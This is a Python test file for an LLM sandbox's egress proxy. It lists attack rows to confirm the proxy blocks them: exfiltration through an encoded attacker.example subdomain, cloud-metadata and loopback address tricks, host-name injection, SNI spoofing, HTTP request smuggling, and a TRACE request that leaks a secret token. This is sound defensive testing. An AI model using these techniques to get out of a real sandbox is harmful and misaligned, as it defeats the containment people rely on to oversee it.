"""Ways out of a sandbox whose network is an allow-list, as bytes that a program inside sends to the door.

`ATTACKS` is the table. Each row is tried against the proxy, where it must not reach what it wants, and against a
`NaiveProxy`, where it must: else the row tests nothing. `Outside` plays the internet.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import re
import ssl
import struct
from collections.abc import AsyncIterator, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from unittest import mock

from llm_sandbox_nb.sandbox.contract import Connection
from llm_sandbox_nb.sandbox.network import proxy
from llm_sandbox_nb.sandbox.network.authority import Authority
from llm_sandbox_nb.sandbox.network.internet import Internet
from llm_sandbox_nb.sandbox.network.policy import Policy
from llm_sandbox_nb.sandbox.network.secrets import read_secrets
from llm_sandbox_nb.sandbox.network.streams import CountingStream, SocketStream, TlsStream

PUBLIC, OTHER = "93.184.215.14", "93.184.215.15"
NAMES: dict[str, list[str]] = {
    "allowed.example": [PUBLIC],
    "api.example": [PUBLIC],
    "raw.example": [PUBLIC],
    "mixed.example": ["10.0.0.5", "fd00::5", PUBLIC],
    "loop.example": ["127.0.0.1"],
    "ten.example": ["10.0.0.5"],
    "metadata.example": ["169.254.169.254"],
    "azure.example": ["168.63.129.16"],
    "mapped.example": ["::ffff:127.0.0.1"],
    "nat.example": ["64:ff9b::7f00:1"],
    "six.example": ["2002:7f00:1::"],
    "any.example": ["::"],
    "zone.example": ["fe80::1%1"],
    "group.example": ["224.0.0.1"],
    "shared.example": ["100.64.0.1"],
    "rebinds.example": [PUBLIC],
}
ALLOW = [*(name for name in NAMES if name != "raw.example"), "raw.example:22", "*.wild.example"]
SECRET = "s3cr3t-value-0123456789"
SECRETS = {"API_TOKEN": ("api.example",)}

ROW = r"""
import json, socket, ssl, sys
def row(steps, order):
    said, link = [], socket.create_connection(("127.0.0.1", order["port"]), 20)
    link.settimeout(order["patience"])
    try:
        for kind, text in steps:
            if kind == "send":
                link.sendall(text.encode("latin-1"))
            elif kind == "slow":
                link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                for at in range(len(text)):
                    link.sendall(text[at : at + 1].encode("latin-1"))
            elif kind == "tls":
                context = ssl._create_unverified_context()
                context.set_alpn_protocols(["h2", "http/1.1"])
                link = context.wrap_socket(link, server_hostname=text)
                said.append("ALPN %s\n" % link.selected_alpn_protocol())
            elif kind == "head":
                data = b""
                while b"\r\n\r\n" not in data:
                    piece = link.recv(1)
                    if not piece:
                        break
                    data += piece
                said.append(data.decode("latin-1"))
            else:
                while True:
                    data = link.recv(65536)
                    if not data:
                        break
                    said.append(data.decode("latin-1"))
    except OSError as error:
        said.append("[%s]" % type(error).__name__)
    link.close()
    return "".join(said)
"""
CLIENT = (
    ROW
    + r"""
order = json.loads(sys.stdin.read())
print(json.dumps([row(one, order) for one in order["rows"]]))
"""
)
"""Runs where the door is, with the Python that is there."""

Steps = Sequence[tuple[str, str]]


class Outside(Internet):
    """An internet of one server, which answers with what it was asked; every address leads to it."""

    def __init__(self) -> None:
        super().__init__()
        self.authority = Authority(["api.example"])
        self.looked_up: list[str] = []
        self.dialled: list[tuple[str, int]] = []
        self.arrived: list[bytes] = []
        self.answers = NAMES
        self._servers: list[asyncio.Server] = []
        self._answer = self._echo

    async def __aenter__(self) -> Outside:
        self._servers = [await asyncio.start_server(self._serve, "127.0.0.1", 0, limit=2**20)]
        context = self.authority.context("api.example")
        self._servers.append(
            await asyncio.start_server(self._serve, "127.0.0.1", 0, ssl=context, limit=2**20)
        )
        return self

    async def __aexit__(self, *_: object) -> None:
        for server in self._servers:
            server.close()

    def serve_with(self, answer: Any) -> None:
        self._answer = answer

    def forget(self) -> None:
        self.looked_up, self.dialled, self.arrived = [], [], []

    async def addresses(self, host: str, port: int) -> list[str]:
        self.looked_up.append(host)
        if host == "rebinds.example":
            return [PUBLIC] if self.looked_up.count(host) == 1 else ["127.0.0.1"]
        return self.answers.get(host, [OTHER])

    async def connect(self, address: str, port: int, tls: ssl.SSLContext | None, host: str) -> CountingStream:
        self.dialled.append((address, port))
        inner = self._servers[1 if tls else 0].sockets[0].getsockname()[1]
        return await super().connect("127.0.0.1", inner, tls, host)

    @property
    def tls(self) -> ssl.SSLContext:
        return ssl.create_default_context(cadata=self.authority.pem)

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await self._answer(reader, writer)

    async def _echo(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        index = len(self.arrived)
        self.arrived.append(b"")
        with contextlib.suppress(OSError):
            while data := await reader.read(65536):
                if index < len(self.arrived):
                    self.arrived[index] += data
                head = data.lower()
                if b"sec-websocket-key" in head:
                    writer.write(
                        b"HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\n"
                    )
                elif b" http/1.1\r\n" in head and b"upgrade: h2c" in head:
                    writer.write(b"HTTP/1.1 101 Switching\r\nUpgrade: h2c\r\nConnection: upgrade\r\n\r\n")
                elif b" http/1.1\r\n" in head:
                    echo = b"ECHO " + data
                    length = b"Content-Length: %d\r\nX-Echo: %s\r\n\r\n" % (len(echo), data.split(b"\r\n")[0])
                    writer.write(b"HTTP/1.1 200 OK\r\n" + length + echo)
                else:
                    writer.write(b"RAW " + data)
                await writer.drain()
        writer.close()


def hello(*extensions: tuple[int, bytes]) -> str:
    """A ClientHello with these extensions, as text of Latin-1."""
    parts = b"".join(struct.pack(">HH", kind, len(data)) + data for kind, data in extensions)
    body = (
        b"\x03\x03"
        + bytes(32)
        + b"\0"
        + b"\0\x02\x13\x01"
        + b"\x01\0"
        + struct.pack(">H", len(parts))
        + parts
    )
    message = b"\x01" + len(body).to_bytes(3) + body
    return (b"\x16\x03\x01" + struct.pack(">H", len(message)) + message).decode("latin-1")


def name(*hosts: str) -> tuple[int, bytes]:
    entries = b"".join(struct.pack(">BH", 0, len(host)) + host.encode() for host in hosts)
    return 0, struct.pack(">H", len(entries)) + entries


@dataclass(frozen=True)
class Attack:
    """One row: what is sent, what the answer must begin with, and what it must not reach."""

    number: int
    title: str
    steps: Steps
    status: str = "403"
    """Of the answer; empty where the connection is closed instead, without a byte sent on."""
    marker: str = ""
    """Must not arrive at the server; without one, nothing may be dialled, or arrive."""

    @property
    def id(self) -> str:
        return f"{self.number}-{self.title}"


@dataclass
class Outcome:
    """What became of one row."""

    said: str
    looked_up: list[str] = field(default_factory=list)
    dialled: list[tuple[str, int]] = field(default_factory=list)
    arrived: list[bytes] = field(default_factory=list)

    def reached(self, attack: Attack) -> bool:
        got = b"".join(self.arrived)
        if attack.marker:
            return attack.marker.encode() in got
        return bool(self.dialled) if attack.status else bool(got)


def connect(where: str, *then: tuple[str, str]) -> Steps:
    host = where if "\r" not in where and "\0" not in where else "x"
    return [("send", f"CONNECT {where} HTTP/1.1\r\nHost: {host}\r\n\r\n"), *(then or [("rest", "")])]


def get(url: str, host: str, *lines: str, body: str = "") -> Steps:
    return [("send", "\r\n".join([f"GET {url} HTTP/1.1", f"Host: {host}", *lines, "", body])), ("rest", "")]


def _tunnel(data: str, kind: str = "send") -> Steps:
    return connect("allowed.example:443", ("head", ""), (kind, data), ("rest", ""))


def _inner(request: str) -> Steps:
    return connect("api.example:443", ("head", ""), ("tls", "api.example"), ("send", request), ("rest", ""))


def _rows() -> Iterator[Attack]:
    yield Attack(7, "name of the attacker", connect("c2VjcmV0.attacker.example:443"))
    yield Attack(13, "metadata", connect("169.254.169.254:80"))
    yield Attack(14, "address of an allowed host", connect(f"{PUBLIC}:443"))
    for form in ("0x7f.1", "2130706433", "127.1", "0", "0177.0.0.1", "127.0.0.0x1"):
        yield Attack(15, form, connect(f"{form}:443"), "400")
    for form in ("①②⑦.0.0.1", "127。0。0。1", "аllowed.example"):
        yield Attack(16, form, connect(form.encode().decode("latin-1") + ":443"), "400")
    for form in ("::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::", "::", "::1", "fd00:ec2::254"):
        yield Attack(17, form, connect(f"[{form}]:443"))
    for host in ("mapped", "nat", "six", "any", "zone"):
        yield Attack(17, f"{host}.example", connect(f"{host}.example:443"))
    for host in ("loop", "ten", "metadata", "azure", "group", "shared"):
        yield Attack(18, f"{host}.example", connect(f"{host}.example:443"))
    yield Attack(21, "NUL", connect("evil.example\0.allowed.example:443"), "400")
    for title, text in {
        "CR": "\r",
        "LF": "\n",
        "space": " ",
        "at": "@",
        "zero": "%00",
        "backslash": "\\",
    }.items():
        yield Attack(22, title, connect(f"evil.example{text}.allowed.example:443"), "400")
    for host in ("evil-allowed.example", "allowed.example.evil.example", "wild.example", "notwild.example"):
        yield Attack(23, host, connect(f"{host}:443"))
    yield Attack(24, "two dots", connect("allowed.example..:443"), "400")
    yield Attack(25, "zone", connect("[fe80::1%25x.allowed.example]:443"), "400")
    yield Attack(26, "another port", connect("allowed.example:22"))
    yield Attack(27, "SNI differs", _tunnel(hello(name("evil.example"))), "")
    yield Attack(28, "no SNI", _tunnel(hello((43, b"\x02\x03\x04"))), "")
    yield Attack(28, "two SNI", _tunnel(hello(name("allowed.example"), name("evil.example"))), "")
    yield Attack(28, "two names", _tunnel(hello(name("allowed.example", "evil.example"))), "")
    yield Attack(28, "ECH", _tunnel(hello(name("allowed.example"), (0xFE0D, bytes(8)))), "")
    yield Attack(29, "SSH", _tunnel("SSH-2.0-OpenSSH_9.6\r\n"), "")
    yield Attack(29, "HTTP", _tunnel("GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"), "")
    yield Attack(31, "plain", get("http://evil.example/", "evil.example"))
    yield Attack(31, "https without CONNECT", get("https://allowed.example/", "allowed.example"), "400")
    yield Attack(32, "URI and Host", get("http://allowed.example/", "evil.example"), "400")
    yield Attack(32, "no URI", get("/", "allowed.example"), "400")
    second = "GET http://allowed.example/SMUGGLED HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    yield Attack(
        33, "second", get("http://allowed.example/", "allowed.example", body=second), "200", "SMUGGLED"
    )
    chunked, length = "Transfer-Encoding: chunked", "Content-Length: 5"
    for title, lines in {
        "CL and TE": (length, chunked), "two CL": (length, "Content-Length: 6"), "two TE": (chunked, chunked),
        "Connection": ("Connection: host",), "two Host": ("Host: evil.example",), "gzip": ("Transfer-Encoding: gzip",),
    }.items():  # fmt: skip
        yield Attack(
            34, title, get("http://allowed.example/", "allowed.example", *lines, body="0\r\n\r\n"), "400"
        )
    h2c = ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
    yield Attack(35, "h2c", get("http://allowed.example/", "allowed.example", *h2c), "200", "h2c")
    yield Attack(
        36, "inner Host", _inner("GET /SMUGGLED HTTP/1.1\r\nHost: evil.example\r\n\r\n"), "421", "SMUGGLED"
    )
    whole = "GET http://evil.example/SMUGGLED HTTP/1.1\r\nHost: api.example\r\n\r\n"
    yield Attack(36, "inner URI", _inner(whole), "400", "SMUGGLED")
    own = "GET / HTTP/1.1\r\nHost: api.example\r\nAuthorization: Bearer SMUGGLED-key-of-the-attacker\r\n\r\n"
    yield Attack(36, "the attacker's own key", _inner(own), "200", "SMUGGLED")
    trace = "TRACE / HTTP/1.1\r\nHost: api.example\r\nX-Key: secret-API_TOKEN-is-put-in-outside\r\n\r\n"
    yield Attack(39, "TRACE", _inner(trace), "405", "TRACE")


ATTACKS = [*_rows()]


class NaiveProxy(proxy.Proxy):
    """A proxy that checks nothing: the canary of the table."""

    async def serve(self, client: Any) -> None:
        head = b""
        while b"\r\n\r\n" not in head and (data := await client.read()):
            head += data
        request = re.match(rb"(\w+) (.*?) HTTP/1.1\r\n", head, re.DOTALL)
        assert request
        inner = request[2].startswith(b"api.example")
        (address, *_) = await self.internet.addresses(request[2].decode("latin-1"), 443)
        upstream = await self.internet.connect(
            address, 443, self.internet.tls if inner else None, "api.example"
        )
        try:
            if request[1] != b"CONNECT":
                await upstream.write(head)
            else:
                await client.write(b"HTTP/1.1 200 OK\r\n\r\n")
            if inner:
                assert self.authority
                client = TlsStream(client, self.authority.context("api.example"))
                await client.handshake()
            await proxy._join(client, upstream)
        finally:
            upstream.abort()


async def attempt_here(
    kind: type[proxy.Proxy],
    attack: Attack,
    patience: float,
    *,
    secrets: Mapping[str, Sequence[str]] = SECRETS,
    policy: Policy | None = None,
    answer: bytes = b"",
) -> tuple[Outcome, list[Connection]]:
    """Try a row against a proxy in this process, without a sandbox; the server sends `answer` if there is one."""
    reported: list[Connection] = []
    here: dict[str, Any] = {}
    exec(ROW, here)
    with mock.patch.dict(os.environ, {"API_TOKEN": SECRET}):
        values = read_secrets(secrets)

    async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(answer)
        await writer.drain()
        writer.close()

    async with Outside() as outside:
        if answer:
            outside.serve_with(send)
        served = kind(policy or Policy(ALLOW), values, internet=outside)
        served.report = reported.append
        async with local_door(served) as port:
            said = await asyncio.to_thread(here["row"], attack.steps, {"port": port, "patience": patience})
            return Outcome(said, outside.looked_up, outside.dialled, outside.arrived), reported


def check(attack: Attack, outcome: Outcome) -> None:
    """The row has not reached what it wants, and got the answer that it should."""
    assert not outcome.reached(attack), outcome
    check_answer(attack, outcome)
    if attack.number in (7, 13, 14, 15, 16, 21, 22, 23, 24, 25, 26, 31):
        assert outcome.looked_up == []


def check_answer(attack: Attack, outcome: Outcome) -> None:
    if attack.status:
        answer = re.sub(r"(?s).*ALPN \S+\n", "", outcome.said)  # what was said inside of TLS, if there is any
        assert answer.startswith(f"HTTP/1.1 {attack.status} "), outcome.said
    else:
        assert re.fullmatch(r"(?s)HTTP/1.1 200 .*\r\n\r\n", outcome.said), outcome.said


@contextlib.asynccontextmanager
async def local_door(served: proxy.Proxy) -> AsyncIterator[int]:
    """The proxy behind a socket of this machine; its port."""

    class Local(SocketStream):
        async def end_writing(self) -> None:
            with contextlib.suppress(OSError):
                self._writer.write_eof()

        async def close(self) -> None:
            await self.end_writing()
            self._writer.close()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await served.serve(Local(reader, writer))

    async with await asyncio.start_server(serve, "127.0.0.1", 0) as server:
        yield server.sockets[0].getsockname()[1]


def address_of_this_machine() -> str | None:
    """An address that this machine has beside loopback; None when it has none."""
    for line in Path("/proc/net/fib_trie").read_text().split("|--"):
        found = line.split()
        if "LOCAL" in line and found and not found[0].startswith("127."):
            return found[0]
    return None
